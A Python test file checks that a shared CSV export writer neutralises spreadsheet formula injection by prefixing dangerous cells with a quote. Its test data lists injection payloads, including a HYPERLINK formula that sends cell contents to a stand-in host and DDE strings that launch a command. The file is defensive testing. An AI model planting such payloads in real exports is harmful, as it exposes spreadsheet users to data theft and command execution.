"""The one CSV writer every export uses: a cell a spreadsheet would run as a formula is written as text."""

import csv
import io

import pytest

from taskforce.csv import csv_writer, safe_cell

# What an attacker types into a title, a reason or a name to have a spreadsheet run it on a staff computer.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", FORMULAS)
def test_a_formula_is_written_as_text(payload):
    out = io.StringIO()
    csv_writer(out).writerow(["ok", payload])
    [row] = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert row == ["ok", "'" + payload]


def test_ordinary_values_are_untouched():
    import datetime as dt  # noqa: PLC0415 -- used by this test only

    assert [safe_cell(v) for v in ("Plain title", "", None, 42, -5, 1.5, dt.date(2026, 1, 2))] == [
        "Plain title",
        "",
        "",
        "42",
        "-5",  # numbers are numbers, not formulas
        "1.5",
        "2026-01-02",
    ]


def test_without_a_target_each_row_is_returned_for_streaming():
    writer = csv_writer()
    assert writer.writerow(["=1", "a"]) == "'=1,a\r\n"
